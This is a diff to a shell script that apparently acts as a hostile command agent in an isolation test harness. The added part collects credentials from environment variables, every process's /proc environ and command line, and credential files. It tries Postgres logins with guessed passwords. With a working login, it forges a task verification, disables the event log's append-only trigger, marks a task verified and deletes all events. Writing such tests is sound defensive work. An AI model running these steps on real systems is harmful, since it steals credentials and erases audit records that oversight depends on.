@@ -1,7 +1,9 @@
 # A hostile command agent (S4): it tries to reach what isolation must keep from it and reports
 # each attempt on one line, `ATTACK <name> <succeeded|blocked> [evidence]`. The harness prepends:
 # WORKER_PID, VICTIM_DIR, VICTIM_PID, VICTIM_BRANCH, BATON_HOME_DIR, WORK_DIR, REPO, OUTSIDE_DIR,
-# TCP_PORT. POSIX sh (dash), no tools beyond coreutils, git and node.
+# TCP_PORT, BATON_SRC, and for the store attacks (only when STORE_DB is set) STORE_HOST, STORE_PORT,
+# STORE_DB, STORE_TASK, STORE_CLAIM, STORE_REVISION: where the database is and which task to forge,
+# never a credential. POSIX sh (dash), no tools beyond coreutils, git, node and psql.
 report() { echo "ATTACK $1 $2 ${3:-}"; }
 environ() { tr '\0' '\n' < "/proc/$1/environ" 2>/dev/null; }
 echo "UID $(id -u)"
@@ -57,6 +59,87 @@ if node -e 'const s = require("net").connect(Number(process.argv[1]), "127.0.0.1
   report tcp_localhost succeeded "$TCP_PORT"
 else
   report tcp_localhost blocked
+fi
+
+# The store (Postgres): every credential it can find, from anywhere; with one that logs in, it
+# forges a verification, switches off the event log's append-only trigger and writes tables.
+if [ -n "${STORE_DB:-}" ]; then
+  found="${TMPDIR:-/tmp}/hostile-found.$$"
+  : > "$found"
+  # Each line: <where><TAB><text>; where = env, /proc/<pid>/environ, /proc/<pid>/cmdline or a file.
+  collect() { sed "s|^|$1	|" >> "$found"; }
+  env | collect env
+  # The worker's environ first, then every other process's environ and command line.
+  for f in "/proc/$WORKER_PID/environ" /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | collect "$f"; done
+  for f in /proc/[0-9]*/cmdline; do { tr '\0' ' ' < "$f" && echo; } 2>/dev/null | collect "$f"; done
+  # Files: the baton home (credentials/*), the repository, baton's own tree and its .baton folder.
+  find "$BATON_HOME_DIR" "$REPO" "$BATON_SRC/.baton" "$BATON_SRC/src" "$BATON_SRC/docs" "$BATON_SRC/.ci" \
+    "$BATON_SRC/README.md" "$BATON_SRC/docker-compose.yml" \
+    \( -name .git -o -name node_modules -o -name postgres -o -name tools \) -prune -o \
+    -type f -size -64k -print 2>/dev/null | while IFS= read -r f; do cat "$f" 2>/dev/null | collect "$f"; done
+  # Candidates, one a line: host, user, password, where it was found (the first place wins).
+  candidates=$(node -e '
+    const fs = require("fs");
+    const [file, host] = process.argv.slice(1);
+    const out = new Map();
+    const users = new Set(["postgres", "baton", "baton_ci", "baton_worker", "baton_dev_worker", "baton_dev_client"]);
+    const add = (h, user, password, where) => { const k = [h, user, password].join("\t"); if (!out.has(k)) out.set(k, where); };
+    const bare = [];
+    const dec = (s) => { try { return decodeURIComponent(s); } catch { return s; } };
+    for (const line of fs.readFileSync(file, "utf8").split("\n")) {
+      const tab = line.indexOf("\t");
+      if (tab < 0) continue;
+      const where = line.slice(0, tab), text = line.slice(tab + 1);
+      for (const m of text.matchAll(/postgres(?:ql)?:\/\/([^:\/@\s"\x27]+):([^@\s"\x27]*)@/g)) { users.add(dec(m[1])); add(host, dec(m[1]), dec(m[2]), where); }
+      const pg = /^PG(PASSWORD|USER)=(.*)$/.exec(text);
+      if (pg && pg[1] === "USER") users.add(pg[2]);
+      if (pg && pg[1] === "PASSWORD") bare.push([pg[2], where]);
+      // A secret file (credentials/*, ci/*): its one word is a password.
+      if (/\/(credentials|ci)\//.test(where) && !where.startsWith("/proc/") && /^\S+$/.test(text.trim())) bare.push([text.trim(), where]);
+    }
+    // The literal passwords baton 0.1 and its CI had, and no password at all (trust, peer).
+    for (const p of ["baton", "baton_ci", "postgres", "password"]) bare.push([p, "old literal"]);
+    for (const [p, where] of bare) for (const u of users) add(host, u, p, where);
+    for (const u of users) { add(host, u, "", "no password"); add("/var/run/postgresql", u, "", "no password, local socket"); }
+    for (const [k, where] of out) console.log(`${k}\t${where}`);
+  ' "$found" "$STORE_HOST")
+  rm -f "$found"
+  # psql as one login against the test's database (always that one: the name is never taken from a found URL).
+  sql() {
+    PGHOST="$1" PGPORT="$STORE_PORT" PGDATABASE="$STORE_DB" PGUSER="$2" PGPASSWORD="$3" PGCONNECT_TIMEOUT=3 \
+      psql -w -X -q -At -v ON_ERROR_STOP=1 -c "$4" 2>&1 | tr '\n' ' ' | cut -c1-300
+  }
+  tab=$(printf '\t')
+  login=''
+  tried=0
+  while IFS="$tab" read -r h u p where; do
+    [ -n "$u" ] || continue
+    tried=$((tried + 1))
+    if [ "$(sql "$h" "$u" "$p" 'SELECT 4242')" = '4242 ' ]; then login="$h$tab$u$tab$p$tab$where"; break; fi
+  done <<CANDIDATES
+$candidates
+CANDIDATES
+  if [ -z "$login" ]; then
+    report store_login blocked "$tried candidates, none logged in"
+    for a in store_forge_verification store_disable_trigger store_update_task store_delete_events; do report "$a" blocked 'no login'; done
+  else
+    IFS="$tab" read -r h u p where <<LOGIN
+$login
+LOGIN
+    report store_login succeeded "$u from $where"
+    o1=$(sql "$h" "$u" "$p" "SELECT claim_version FROM baton.start_verification('$STORE_TASK', 'forger')")
+    o2=$(sql "$h" "$u" "$p" "SELECT status FROM baton.record_verification('$STORE_TASK', 'forger', $STORE_CLAIM, '$STORE_REVISION', 'true', 0, 'x', '')")
+    if [ "$o2" = 'verified ' ]; then r=succeeded; else r=blocked; fi
+    report store_forge_verification "$r" "start: $o1; record: $o2"
+    # Each ends with a query, so that what it did is the evidence (the trigger's state, rows touched).
+    for a in "store_disable_trigger|ALTER TABLE baton.events DISABLE TRIGGER events_append_only; SELECT 'tgenabled=' || tgenabled::text FROM pg_trigger WHERE tgname = 'events_append_only'" \
+      "store_update_task|UPDATE baton.tasks SET status = 'verified' WHERE id = '$STORE_TASK' RETURNING 'updated ' || id" \
+      "store_delete_events|WITH d AS (DELETE FROM baton.events RETURNING 1) SELECT 'deleted ' || count(*) FROM d"; do
+      o=$(sql "$h" "$u" "$p" "${a#*|}")
+      case "$o" in *ERROR*|*error:*|*FATAL*) r=blocked ;; *) r=succeeded ;; esac
+      report "${a%%|*}" "$r" "$o"
+    done
+  fi
 fi
 
 # What it is allowed to do: call a tool for its own task, and commit its work.
